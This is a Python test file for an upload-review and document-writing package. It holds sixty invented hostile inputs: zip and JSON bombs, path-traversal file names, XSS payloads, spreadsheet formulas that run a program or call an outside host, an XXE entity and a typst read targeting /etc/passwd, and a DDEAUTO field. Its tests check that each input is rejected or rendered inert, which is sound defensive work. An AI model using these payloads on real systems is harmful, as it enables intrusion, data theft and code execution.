"""Sixty inputs that mean harm, each by name: files that are no submission, and texts that would be markup or formulas.

A file is set aside with a reason or judged, and nothing leaves the folder of the output. A text is shown as that text
in HTML, CSV, XLSX, DOCX and PDF. All of it is invented here; the kinds are those of published lists of attacks on
upload forms, spreadsheets and document writers.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import struct
import subprocess
import zipfile
from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import attrs
import docx
import openpyxl
import pytest
from pyarrow import parquet

import ampcite
from ampcite.base.spreadsheet import as_text
from ampcite.desk.batch import review_all
from ampcite.desk.judge import Task
from ampcite.desk.sources import entries_of
from ampcite.letters.answers import to_csv, to_xlsx
from ampcite.letters.as_docx import to_docx
from ampcite.letters.as_html import to_html
from ampcite.letters.as_pdf import to_pdf
from ampcite.letters.records import Asked, Head, Item, Letter, Look, Requirement, Settled
from ampcite.letters.texts import readable
from browser import needs_pdf_tools
from letters_shared import letter_of
from shared import shipped_house

HOUSE = json.dumps(shipped_house("converter-strings")).encode()


def put(path: str, value: str) -> bytes:
    """The house with a JSON text put in for one value."""
    house: Any = json.loads(HOUSE)
    here = house
    *way, last = path.split("/")
    for step in way:
        here = here[step]
    here[last] = "\0HERE"
    return json.dumps(house).replace('"\\u0000HERE"', value).encode()


FILES: Mapping[str, bytes] = {
    "bomb of blanks.json": b" " * 30_000_000,
    "bomb of brackets.json": b"[" * 3_000_000,
    "bomb of objects.json": b'{"a":' * 200_000,
    "bomb of one key.json": b'{"' + b"k" * 19_000_000 + b'":1}',
    "bomb of numbers.json": b'{"circuits":[' + b"9," * 2_000_000 + b"9]}",
    "bomb in gzip.json": gzip.compress(b"0" * 10_000_000),
    "zip in a zip.json": b"PK\x03\x04" + b"\0" * 100,
    "giant whole number.json": put("service/voltage", "9" * 4000),
    "giant power.json": put("service/voltage", "1e308"),
    "beyond any number.json": put("service/voltage", "1e400"),
    "giant number in a text.json": put("service/voltage", '"1e99999 V"'),
    "giant count.json": put("strings", '[{"id":"S","modules_in_series":1e15}]'),
    "nearly nothing.json": put("service/voltage", "5e-324"),
    "UTF-16 with its mark.json": HOUSE.decode().encode("utf-16"),
    "UTF-32.json": HOUSE.decode().encode("utf-32-le"),
    "UTF-7.json": b"+AHs-" + HOUSE,
    "overlong slash.json": HOUSE.replace(b"invented", b"inv\xc0\xafented", 1),
    "half a pair.json": put("project/name", '"\\udfff"'),
    "../../up and out.json": HOUSE,
    "/etc/absolute.json": HOUSE,
    "C:\\windows\\other.json": HOUSE,
    "..\\..\\backwards.json": HOUSE,
    "turned\u202enosj.exe.json": HOUSE,
    "\x1b[2J\x07bell.json": HOUSE,
    "file it names.json": put("catalogue", '["/etc/passwd", "../../secret.json", "file:///etc/passwd"]'),
}  # fmt: skip
"""Files by the names they have in a zip file."""

TEXTS: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "image that fails": "\"><img src=x onerror=alert(1)>",
    "frame": "<iframe src=//x.invalid></iframe>",
    "vector with a script": "<svg/onload=alert(1)>",
    "end of the title": "</title></head><body onload=alert(1)>",
    "end of a comment": "--><b>bold</b><!--",
    "entity": "&lt;b&gt; &#x3c;b&#62; &amp;",
    "address with a script": "javascript:alert(1)",
    "style that calls home": "<style>@import url(//x.invalid/a.css)</style>",
    "formula": "=1+1",
    "formula with a plus": "+1+1",
    "formula with a minus": "-2+3",
    "formula with an at": "@SUM(A1:A9)",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula that calls a program": "=cmd|' /C calc'!A0",
    "formula that calls home": '=HYPERLINK("http://x.invalid/?"&A1,"see")',
    "formula in other brackets": "=IMPORTXML(\"http://x.invalid\",\"//a\")",
    "quote and comma": "a\",\"b\n=1+1,c",
    "end of a text run": "]]></w:t></w:r><w:r><w:t>more",
    "end of an XML declaration": "?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "field of a word processor": "{ DDEAUTO c:\\\\windows\\\\calc.exe }",
    "heading of the PDF's language": "#heading(1)[x]",
    "file in the PDF's language": "#read(\"/etc/passwd\")",
    "marks of the PDF's language": "*bold* _em_ `raw` $x^2$ @ref <label> \\u{41}",
    "template": "{{ 7*7 }} {% raw %} ${7*7}",
    "words of the form": "{authority} {round} {__class__}",
    "percent signs": "%s %n %(name)s %x%x",
    "turned direction": "abc\u202edcba\u202c",
    "isolated direction": "\u2066abc\u2069",
    "zero byte": "a\0b",
    "colours of a terminal": "\x1b[31mred\x1b[0m",
    "bell and backspace": "a\x07\x08b",
    "half a pair": "a\ud800b",
    "no width": "zero\u200bwidth",
}  # fmt: skip
"""Texts, to stand wherever an applicant can write one."""


def test_there_are_sixty() -> None:
    assert len(FILES) + len(TEXTS) == 60


def test_files_that_mean_harm_are_set_aside_or_judged_and_nothing_leaves_the_folder(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    with zipfile.ZipFile(tmp_path / "in" / "q.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in FILES.items():
            archive.writestr(name, data)
    out = tmp_path / "out"
    review_all(entries_of(tmp_path / "in" / "q.zip"), out, Task(), "0")
    rows = parquet.read_table(out / "submissions.parquet").to_pylist()
    assert len(rows) == len(FILES)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["in", "out"]
    judged = [row["name"] for row in rows if row["outcome"] != "unusable"]
    assert sorted(judged) == ["../../up and out.json", "..\\..\\backwards.json", "/etc/absolute.json",
                              "C:\\windows\\other.json", "\\x1b[2J\\x07bell.json", "giant power.json",
                              "nearly nothing.json", "turned\\u202enosj.exe.json"]  # fmt: skip
    assert all(row["reason"] and len(row["reason"]) < 4100 for row in rows if row["outcome"] == "unusable")
    assert not any("root:" in str(value) for row in rows for value in row.values())
    texts = [path for path in out.rglob("*") if path.suffix in (".csv", ".html", ".txt", ".json")]
    written = b"".join(path.read_bytes() for path in texts)
    assert b"\x1b" not in written and "\u202e".encode() not in written


def test_a_zip_that_lies_about_its_sizes_is_read_no_further_than_it_says(tmp_path: Path) -> None:
    path = tmp_path / "q.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.json", b" " * 25_000_000)
    data = bytearray(path.read_bytes())
    central = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 10)
    path.write_bytes(data)
    [entry] = entries_of(path)()
    assert entry.data == b"" and entry.fault


# --- texts -------------------------------------------------------------------------------------------------------


def letter_full_of_texts() -> Letter:
    """A letter in every place of which each of the texts stands, as compose gives it."""
    whole = letter_of(shipped_house("converter-strings"))
    texts = tuple(TEXTS.values())
    head = Head(texts, texts[0], tuple((text, text) for text in texts), texts[0], texts[0])
    items = tuple(
        Item(i, "new", i % 2 == 0, text, text, text, (text,), (Requirement(text, (text,), (text,), False),), (text,),
             text, (("rule", "part"),), answer=text)
        for i, text in enumerate(texts, 1)
    )  # fmt: skip
    asked = tuple(Asked(100 + i, "new", text, text, 1, (("fact", text),)) for i, text in enumerate(texts))
    looks = tuple(Look(text, text, text, (text,)) for text in texts)
    settled = tuple(Settled(200 + i, text, text) for i, text in enumerate(texts))
    out: Letter = readable(attrs.evolve(
        whole, kind="corrections", head=head, items=items, asked=asked, looks=looks, settled=settled, waived=settled,
        changes=texts, notes=texts, basis=texts, instructions=texts, closing=texts, opening=texts[0],
    ))  # fmt: skip
    return out


@pytest.fixture(scope="module")
def letter() -> Letter:
    return letter_full_of_texts()


def shown(text: str) -> str:
    """A text without what no page can show and without blanks, which a line break may take the place of."""
    return re.sub(r"\s+", "", readable(text))


class Page(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.names: set[str | None] = set()
        self.words = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.names |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.words += data


def test_html_shows_every_text_as_text(letter: Letter) -> None:
    harmless, page = Page(to_html(letter_of(shipped_house("converter-strings")))), Page(to_html(letter))
    assert page.tags <= harmless.tags | {"table", "tr", "th", "td", "ul", "li", "section", "h2", "h3", "span"}
    assert not any(name and name.startswith("on") for name in page.names) and "src" not in page.names
    words = re.sub(r"\s+", "", page.words)
    assert [name for name, text in TEXTS.items() if shown(text) not in words] == []


def test_csv_and_xlsx_show_every_text_as_text(letter: Letter) -> None:
    cells = [cell for row in csv.reader(io.StringIO(to_csv(letter).removeprefix("\ufeff"))) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert [name for name, text in TEXTS.items() if as_text(readable(text)) not in cells] == []
    data = to_xlsx(letter)
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in found} == {"s"} and not any(cell.hyperlink for cell in found)
    values = {shown(str(cell.value)) for cell in found}
    assert [name for name, text in TEXTS.items() if shown(text) not in values] == []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
        assert not [name for name in archive.namelist() if "external" in name.lower()]


def test_docx_shows_every_text_as_text(letter: Letter) -> None:
    data = to_docx(letter)
    document = docx.Document(io.BytesIO(data))
    said = [p.text for p in document.paragraphs]
    said += [p.text for table in document.tables for row in table.rows for c in row.cells for p in c.paragraphs]
    words = re.sub(r"\s+", "", "".join(said))
    assert [name for name, text in TEXTS.items() if shown(text) not in words] == []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        body = archive.read("word/document.xml").decode()
        assert body.count("<w:instrText") == 0 and "DOCTYPE" not in re.sub(r"&lt;!DOCTYPE", "", body)
        assert all(b'TargetMode="External"' not in archive.read(name) for name in archive.namelist())


@needs_pdf_tools
def test_pdf_shows_every_text_as_text(letter: Letter) -> None:
    data = to_pdf(letter)
    assert not re.search(rb"/(JavaScript|JS|Launch|EmbeddedFile|URI)\b", data)
    said = subprocess.run(["pdftotext", "-raw", "-", "-"], input=data, capture_output=True, check=True).stdout.decode()
    words = re.sub(r"[\s\u00ad\u200b\ufffd]+", "", said)
    lost = [name for name, text in TEXTS.items() if re.sub("[\u200b\ufffd]", "", shown(text)) not in words]
    assert lost == []


@pytest.mark.parametrize("name", list(TEXTS))
def test_a_text_in_a_submission_is_shown_as_text_in_the_tables_of_a_queue(name: str, tmp_path: Path) -> None:
    house = json.loads(HOUSE)
    house["project"] |= {"name": TEXTS[name], "contractor": TEXTS[name], "permit": TEXTS[name]}
    house["panels"][0]["breakers"]["all"][0]["rating"] = 60
    house = json.loads(json.dumps(house).replace('"MAIN"', json.dumps(TEXTS[name])))
    (tmp_path / "q").mkdir()
    (tmp_path / "q" / "a.json").write_text(json.dumps(house), "utf-8")
    summary = review_all(entries_of(tmp_path / "q"), tmp_path / "out", Task(), "0")
    [row] = csv.DictReader(io.StringIO((tmp_path / "out" / "submissions.csv").read_text("utf-8")))
    try:
        ampcite.read(json.dumps(house))
    except ampcite.InputError:
        assert row["outcome"] == "unusable"
        return
    assert row["outcome"] == "to correct" and row["contractor"].strip() == as_text(readable(TEXTS[name])).strip()
    [stored] = parquet.read_table(tmp_path / "out" / "submissions.parquet").to_pylist()
    assert stored["contractor"] == readable(TEXTS[name])
    page = Page((tmp_path / "out" / "summary.html").read_text("utf-8"))
    assert not {"script", "img", "iframe", "svg"} & page.tags and shown(TEXTS[name]) in re.sub(r"\s+", "", page.words)
    assert summary["contractor"][0]["name"] == readable(TEXTS[name])
